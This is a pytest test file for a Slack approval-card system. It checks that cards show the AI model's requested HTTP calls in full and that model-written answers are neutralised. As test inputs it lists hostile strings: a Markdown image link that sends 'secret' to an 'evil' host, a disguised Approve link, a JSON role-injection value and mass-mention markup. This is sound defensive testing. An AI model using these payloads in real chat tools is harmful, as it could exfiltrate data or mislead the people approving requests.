"""Cards show all of a request and nothing else; answers notify nobody, fetch nothing, lose nothing and cannot pass for a card."""

from __future__ import annotations

import html
import json
import re
import unicodedata
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from slack_sdk.models.blocks import Block as SdkBlock

from core import words
from core.calls import MAX_ARGUMENTS, BadCall, parse_arguments, resolve
from core.cards import CardRow, answer, card, card_parts, escape, harmless, readable, split
from core.catalog import load_catalog
from core.policy import State
from core.posts import answer_posts
from workspace import limits

Blocks = list[dict[str, Any]]
TOKEN = "0123456789abcdef" * 2


def row(body: str | None = None, url: str = "https://hr/users/7", **more: Any) -> CardRow:
    return CardRow(
        **{
            "token": TOKEN,
            "state": State.PENDING,
            "method": "PUT",
            "url": url,
            "body": body,
            "asker": "U0ANN",
            "why": "",
            "expires_at": 2e9,
        }
        | more
    )


def messages(given: CardRow) -> list[tuple[str, Blocks]]:
    return [*card_parts(given), card(given)]


def plain(blocks: Blocks) -> list[str]:
    """The texts of a message that come from the stored request: its sections."""
    return [block["text"]["text"] for block in blocks if block["type"] == "section"]


def body_shown(given: CardRow) -> str:
    """The body as the cards have it, all messages joined."""
    shown = "".join("".join(plain(blocks)) for _, blocks in messages(given))
    head = f"{given.method} {given.url}"
    assert shown.count(head) >= 1, "the whole method and URL stand on the card"
    at = shown.rindex(head) if head not in (given.body or "") else shown.index(head)
    return shown[:at] + shown[at + len(head) :]


def mrkdwn(blocks: Blocks) -> list[str]:
    return [
        e["text"] for block in blocks if block["type"] == "context" for e in block["elements"] if e["type"] == "mrkdwn"
    ]


def buttons(blocks: Blocks) -> list[dict[str, Any]]:
    return [element for block in blocks if block["type"] == "actions" for element in block["elements"]]


def held_to_limits(text: str, blocks: Blocks, *, updates: bool = False) -> None:
    """By slack_sdk's models and by the local workspace's table of Slack's limits."""
    for block in blocks:
        parsed = SdkBlock.parse(block)
        assert parsed is not None
        parsed.validate_json()
    limits.check(
        "chat.postMessage", {"channel": "C1", "thread_ts": "1700000000.000001", "text": text, "blocks": blocks}
    )
    assert limits.check("chat.postMessage", {"channel": "C1", "text": text, "blocks": blocks}).warnings == ()
    if updates:
        limits.check("chat.update", {"channel": "C1", "ts": "1700000000.000001", "text": text, "blocks": blocks})
    assert all(section.strip() for section in plain(blocks)), "Slack refuses texts without a visible character"


# --- the whole request ------------------------------------------------------------------------------------------------


def test_a_card_shows_who_asks_what_and_until_when() -> None:
    text, blocks = card(row('{"name":"Ann"}', why="Because & so."))
    assert blocks[0]["text"]["text"] == words.CARD_TITLE
    assert plain(blocks) == ["PUT https://hr/users/7", '{\n  "name": "Ann"\n}']
    assert mrkdwn(blocks)[0].startswith("Asked by <@U0ANN>, who decides · expires <!date^2000000000^")
    assert mrkdwn(blocks)[1] == "Because &amp; so."
    assert text == f"{words.CARD_TITLE}: PUT https://hr/users/7"


def test_a_request_without_a_body_says_so() -> None:
    assert plain(card(row(None))[1]) == ["PUT https://hr/users/7", words.NO_BODY]


def test_a_body_that_says_that_there_is_no_body_looks_different() -> None:
    assert plain(card(row(json.dumps([words.NO_BODY])))[1])[1] != words.NO_BODY


@pytest.mark.parametrize("length", [10, 2_000, 2_890, 2_990, 3_001, 5_000, 8_192, 17_000])
def test_every_character_of_a_long_url_is_on_the_card(length: int) -> None:
    """The end of a URL may be what matters: ...&force=true."""
    url = "https://hr/users/" + "x" * length + "?force=true"
    given = row("{}", url=url)
    assert "".join("".join(plain(blocks)) for _, blocks in messages(given)).count(f"PUT {url}") == 1
    for text, blocks in messages(given):
        held_to_limits(text, blocks, updates=True)


@pytest.mark.parametrize("length", [10, 2_850, 2_950, 3_100, 11_000, 12_000, 50_000, MAX_ARGUMENTS])
def test_every_character_of_a_long_body_is_on_the_cards(length: int) -> None:
    body = json.dumps({"text": "".join(chr(97 + i % 26) for i in range(length)), "end": "of the body"})
    given = row(body)
    assert json.loads(body_shown(given)) == json.loads(body)
    for text, blocks in messages(given):
        held_to_limits(text, blocks)


def test_a_body_in_parts_is_numbered_and_only_the_last_has_buttons() -> None:
    given = row(json.dumps({"text": "x" * 40_000}))
    parts = card_parts(given)
    assert [mrkdwn(blocks)[0] for _, blocks in parts] == [
        words.CARD_PART.format(part=i, parts=len(parts) + 1) for i in range(1, len(parts) + 1)
    ]
    assert not any(buttons(blocks) for _, blocks in parts)
    assert len(buttons(card(given)[1])) == 2


def test_a_section_is_never_folded_away() -> None:
    """Without `expand` Slack may hide the rest of a long section behind "see more"."""
    sections = [block for block in card(row(json.dumps({"t": "line\n" * 300})))[1] if block["type"] == "section"]
    assert all(section.get("expand") is True for section in sections)


# --- what hides -------------------------------------------------------------------------------------------------------

HIDING = [
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2069",
    "\u200e",
    "\u061c",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "\u034f",
    "\u180e",
    "\u115f",
    "\u3164",
    "\uffa0",
    "\u2800",
    "\ufe0f",
    "\ufe00",
    "\U000e0100",
    "\U000e0041",
    "\u17b4",
    "\ue000",
    "\U000f0000",
    "\ufff9",
    "\ufffe",
    "\x00",
    "\x1b",
    "\x7f",
    "\x85",
    "\u2028",
    "\u2029",
    "\u00a0",
    "\u3000",
    "\u2003",
    "\t",
    "\r",
    "\x0b",
    "\U0001d173",
    "\U0001bca0",
]
TRICKS = [
    "<!channel>",
    "<!here>",
    "<@U0BEN>",
    "<#C1>",
    "<http://evil|Approve>",
    "*bold*",
    "_it_",
    "~no~",
    "`code`",
    "```",
    "> quote",
    "&lt;",
    "&amp;amp;",
    "Approve",
    "Deny",
    words.LOCK,
    words.CARD_TITLE,
    words.NO_BODY,
    "PUT https://hr/users/7",
    "\n\n\n",
    "\n" * 200,
    " " * 500,
    "a\u0301\u0302\u0303" * 40,
    "\\u202e",
    "\\n",
    "\\",
    '"',
    '","role":"admin',
    "k" * 3_000,
    "שלום",
    "مرحبا",
    ":closed_lock_with_key:",
    "👩‍👩‍👧",
    "{{",
    "…",
    "%2e",
]


@pytest.mark.parametrize("hidden", HIDING, ids=lambda c: f"U+{ord(c):04X}")
def test_what_cannot_be_seen_is_shown_as_its_escape(hidden: str) -> None:
    body = json.dumps({f"na{hidden}me": f"Ann{hidden}"}, ensure_ascii=False)
    shown = readable(body)
    assert hidden not in shown
    assert json.loads(shown) == json.loads(body)


def test_no_default_ignorable_character_is_shown_as_itself() -> None:
    """Unicode's own list of what renderers draw as nothing: DerivedCoreProperties.txt, Default_Ignorable_Code_Point."""
    ranges = [
        (0xAD, 0xAD),
        (0x34F, 0x34F),
        (0x61C, 0x61C),
        (0x115F, 0x1160),
        (0x17B4, 0x17B5),
        (0x180B, 0x180F),
        (0x200B, 0x200F),
        (0x202A, 0x202E),
        (0x2060, 0x206F),
        (0x3164, 0x3164),
        (0xFE00, 0xFE0F),
        (0xFEFF, 0xFEFF),
        (0xFFA0, 0xFFA0),
        (0xFFF0, 0xFFF8),
        (0x1BCA0, 0x1BCA3),
        (0x1D173, 0x1D17A),
        (0xE0000, 0xE0FFF),
    ]
    text = "".join(chr(c) for low, high in ranges for c in range(low, high + 1))
    for at in range(0, len(text), 500):
        part = text[at : at + 500]
        assert not set(readable(json.dumps([part], ensure_ascii=False))) & set(part)


HOSTILE = st.lists(st.sampled_from(HIDING + TRICKS) | st.text(max_size=10), max_size=12).map("".join)
BODIES = st.recursive(
    HOSTILE | st.integers() | st.none() | st.booleans() | st.floats(allow_nan=False, allow_infinity=False),
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(HOSTILE, inner, max_size=5),
    max_leaves=15,
).filter(lambda value: isinstance(value, (dict, list)))
CATALOG = load_catalog("base_url: https://hr\nendpoints: [{method: PUT, url: '/users/[id]?q=[q]', description: d}]", {})


@settings(max_examples=300, deadline=None)
@given(body=BODIES, identity=HOSTILE, query=HOSTILE)
def test_the_cards_show_exactly_what_is_stored(body: object, identity: str, query: str) -> None:
    """With JSON's escapes undone, what people read is the stored body, character for character; nothing in it stays unseen."""
    url = "/users/7"
    try:
        call = resolve(CATALOG, {"method": "PUT", "url": url, "body": body})
    except BadCall:
        return
    assert call.body is not None
    given = row(call.body, url=call.url)
    shown = body_shown(given)
    assert json.dumps(json.loads(shown), ensure_ascii=False, separators=(",", ":")) == call.body
    assert all(c == "\n" or c == " " or unicodedata.category(c)[0] not in "CZ" for c in shown)
    for text, blocks in messages(given):
        held_to_limits(text, blocks)
        assert set(mrkdwn(blocks)) <= {
            *mrkdwn(card(row("{}"))[1]),
            *(m for m in mrkdwn(blocks) if m.startswith("Body of the request")),
        }
        assert [button["value"] for button in buttons(blocks)] in ([], [TOKEN, TOKEN])


@pytest.mark.parametrize("depth", [1, 50, 100, 300, 500, 900])
def test_a_nested_body_that_may_be_called_can_be_shown(depth: int) -> None:
    try:
        call = resolve(
            CATALOG,
            parse_arguments(json.dumps({"method": "PUT", "url": "/users/7", "body": "[" * depth + "]" * depth})),
        )
    except BadCall:
        return
    assert json.loads(body_shown(row(call.body))) == json.loads(call.body or "")


def test_a_line_break_in_a_value_is_not_a_line_break_on_the_card() -> None:
    assert readable('{"a":"x\\n\\"role\\": \\"admin\\""}').count("\n") == 2


@pytest.mark.parametrize("trick", TRICKS)
def test_nothing_model_made_is_markup(trick: str) -> None:
    """Sections are plain text; marked up are only our own words."""
    for state in State:
        given = row(
            json.dumps({trick: trick}), why="why", state=state, decided_by="U0BEN", decided_at=1e9, note=f"note {trick}"
        )
        for text, blocks in messages(given):
            for block in blocks:
                if block["type"] in ("section", "header"):
                    assert block["text"]["type"] == "plain_text"
            assert (
                re.sub(
                    r"<@U0(ANN|BEN)>|<!date\^\d+\^\{date_short_pretty\} \{time\}\|at \d+>", "", "".join(mrkdwn(blocks))
                ).count("<")
                == 0
            )
            assert "<" not in text


# --- states -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("state", list(State))
def test_buttons_are_there_while_pending_and_never_after(state: State) -> None:
    text, blocks = card(row("{}", state=state, decided_by="U0BEN", decided_at=1e9, status=200))
    assert [(b["action_id"], b["style"], b["value"]) for b in buttons(blocks)] == (
        [("approve", "primary", TOKEN), ("deny", "danger", TOKEN)] if state is State.PENDING else []
    )
    assert blocks[0]["text"]["text"].startswith(words.LOCK)
    held_to_limits(text, blocks, updates=True)


@pytest.mark.parametrize("state", [state for state in State if state is not State.PENDING])
def test_a_decided_card_carries_no_token(state: State) -> None:
    assert TOKEN not in json.dumps(card(row("{}", state=state, decided_by="U0BEN", decided_at=1e9)))


@pytest.mark.parametrize(
    ("state", "more", "ending"),
    [
        (State.DONE, {"status": 204}, "Approved by <@U0BEN> {at} · The API answered 204 No Content"),
        (State.FAILED, {"status": 404}, "Approved by <@U0BEN> {at} · The API answered 404 Not Found"),
        (
            State.FAILED,
            {"note": "No <route>. Nothing was sent."},
            "Approved by <@U0BEN> {at} · No &lt;route&gt;. Nothing was sent.",
        ),
        (
            State.UNKNOWN,
            {},
            "Approved by <@U0BEN> {at} · Sent, but no answer arrived: it may or may not have happened.",
        ),
        (State.REJECTED, {}, "Denied by <@U0BEN> {at}"),
        (State.SENDING, {}, "Approved by <@U0BEN> {at} · being sent"),
        (State.EXPIRED, {"decided_by": None}, "No decision in time. Nothing was sent."),
        (State.WITHDRAWN, {"decided_by": None}, "Withdrawn. Nothing was sent."),
    ],
)
def test_a_decided_card_says_who_when_and_what_came_of_it(state: State, more: dict[str, Any], ending: str) -> None:
    given = replace(row("{}", state=state, decided_by="U0BEN", decided_at=1e9), **more)
    at = "<!date^1000000000^{date_short_pretty} {time}|at 1000000000>"
    assert mrkdwn(card(given)[1])[-1].startswith(ending.format(at=at))


def test_the_request_stays_on_the_card_after_the_decision() -> None:
    given = row('{"a":1}', state=State.DONE, decided_by="U0BEN", decided_at=1e9, status=200)
    assert plain(card(given)[1]) == ["PUT https://hr/users/7", '{\n  "a": 1\n}']


# --- answers ----------------------------------------------------------------------------------------------------------

DANGEROUS = re.compile(
    r"<\s*[!@]|@(?:channel|here|everyone|group)\b|!\[|:closed_lock_with_key:|" + words.LOCK, re.IGNORECASE
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Hello.", "Hello."),
        ("a < b && c > d", "a < b && c > d"),
        ("`a <b>`", "`a <b>`"),
        ("<https://hr/x|x>", "<https://hr/x|x>"),
        ("<!channel>", "@\u200bchannel"),
        ("<!here|here>", "@\u200bhere"),
        ("<!everyone>", "@\u200beveryone"),
        ("<!subteam^S123|@admins>", "@admins"),
        ("<@U0BEN>", "@U0BEN"),
        ("<@U0BEN|ben>", "@ben"),
        ("<#C1|general>", "#general"),
        ("&lt;!channel&gt;", "@\u200bchannel"),
        ("&#60;!channel&#62;", "@\u200bchannel"),
        ("&#x3C;!channel&#x3e;", "@\u200bchannel"),
        ("@channel", "@\u200bchannel"),
        ("@HERE", "@\u200bHERE"),
        ("me@herewego.com", "me@herewego.com"),
        ("![chart](http://evil/c.png)", "[chart](http://evil/c.png)"),
        ("![a][b]", "[a][b]"),
        ("Wow! [link](x)", "Wow! [link](x)"),
        (words.CARD_TITLE, "(lock) Approval needed"),
        (":closed_lock_with_key: Approval needed", "(lock) Approval needed"),
    ],
)
def test_an_answer_is_made_harmless(text: str, shown: str) -> None:
    assert harmless(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "!![x](http://evil/?d=secret)",
        "!!![x](http://evil)",
        "!!\n![x](http://evil)",
        "[![x](http://evil)](http://y)",
        "![![x](a)](b)",
        "<<!channel>!channel>",
        "<!<!channel>>",
        "<@<@U0BEN>U0BEN>",
        "<!channel",
        "< !channel>",
        "<\n!channel>",
        "<!channel|",
        "<!|channel>",
        "<!channel|" + "x" * 300 + ">",
        "<!subteam^" + "S" * 300 + ">",
        "&lt!channel&gt",
        "&#0060;!channel>",
        "&lt;<!channel>",
        "@@channel",
        "<!@channel>",
        "<!x|@channel>",
        "<!x|:closed_lock_with_key:>",
        ":closed_<!lock>_with_key:",
        ":closed_lock_with![_key:",
        ":closed_lock:closed_lock_with_key:_with_key:",
        "<!date^1^{date}|@here>",
        "<@|channel>",
        "<#C1|!here>",
        "<#<!here>>",
    ],
)
def test_no_trick_leads_around_it(text: str) -> None:
    assert not DANGEROUS.search(html.unescape(harmless(text)))


PIECES = [
    "<",
    ">",
    "!",
    "@",
    "#",
    "|",
    "[",
    "]",
    "(x)",
    "channel",
    "here",
    "everyone",
    "&lt;",
    "&gt;",
    "&#60;",
    "&#x3c;",
    "U0BEN",
    "^",
    " ",
    "\n",
    "![",
    ":closed_lock_with_key:",
    words.LOCK,
    "a",
]


@settings(max_examples=600, deadline=None)
@given(text=st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_no_arrangement_of_markup_survives(text: str) -> None:
    assert not DANGEROUS.search(html.unescape(harmless(text)))


@pytest.mark.parametrize(
    "entity",
    [
        "&LT;!channel&GT;",
        "&lt;&excl;channel&gt;",
        "&lt;&#33;channel>",
        "<&#64;U0BEN>",
        "&commat;channel",
        "&#64;here",
        "&excl;[x](http://evil)",
        "&#33;[x](http://evil)",
    ],
)
def test_entities_do_not_become_markup_when_they_are_undone(entity: str) -> None:
    """Whether Slack's Markdown undoes them before it looks for mentions is not documented; so none is left."""
    assert not DANGEROUS.search(html.unescape(harmless(entity)))


# --- long answers -----------------------------------------------------------------------------------------------------


@settings(max_examples=150, deadline=None)
@given(text=st.text(st.sampled_from("ab \n&<é😀"), max_size=300), limit=st.integers(30, 120))
def test_a_split_text_joins_back_to_itself(text: str, limit: int) -> None:
    parts = split(text, limit, lambda part: len(escape(part)))
    assert re.sub(r"\s+", "", "".join(parts)) == re.sub(r"\s+", "", text)
    assert "".join(parts) == text or not all(chunk.strip() for chunk in parts) or len("".join(parts)) < len(text)
    assert all(0 < len(escape(part)) <= limit for part in parts)


@pytest.mark.parametrize("mark", ["\n\n", "\n", " "])
def test_a_text_is_broken_where_a_reader_would(mark: str) -> None:
    words_ = mark.join(["word" * 5] * 100)
    parts = split(words_, 200)
    assert "".join(parts) == words_
    assert all(part.endswith(mark) for part in parts[:-1])


def test_an_open_code_fence_is_closed_and_opened_again() -> None:
    code = "\n".join(f"line {i}" for i in range(100))
    parts = split(f"Look:\n```python\n{code}\n```\nThere.", 200)
    assert len(parts) > 3
    assert all(part.count("```") % 2 == 0 for part in parts)
    assert all("```python\n" in part for part in parts[:-1])
    lines = [line for part in parts for line in part.splitlines() if not line.startswith("```")]
    assert [line for line in lines if line] == ["Look:", *code.splitlines(), "There."]


@settings(max_examples=60, deadline=None)
@given(
    info=st.text(st.sampled_from("&<>py"), max_size=60),
    line=st.text(st.sampled_from("&<> x"), min_size=1, max_size=30),
    count=st.integers(1, 900),
)
def test_every_part_of_an_answer_fits_into_a_message(info: str, line: str, count: int) -> None:
    text = f"```{info}\n" + f"{line}\n" * count + "```"
    for shown, blocks in answer(text):
        assert len(shown) <= 4_000
        held_to_limits(shown, blocks)


def test_an_answer_of_200000_characters_is_split_and_nothing_is_cut_off() -> None:
    text = "\n".join(f"- item {i} & more" for i in range(12_000))
    posts = answer_posts("turn", "T/C/1.1", text, "first")
    assert "".join(post.arguments["blocks"][0]["text"] for post in posts) == text
    assert [post.post for post in posts[:3]] == ["first", "first.1", "first.2"]


@pytest.mark.parametrize("text", ["", " ", "\n\n\t", "\u200b" * 0])
def test_an_empty_answer_says_so(text: str) -> None:
    (post,) = answer_posts("turn", "T/C/1.1", text, "first")
    assert post.arguments == {"text": words.EMPTY}
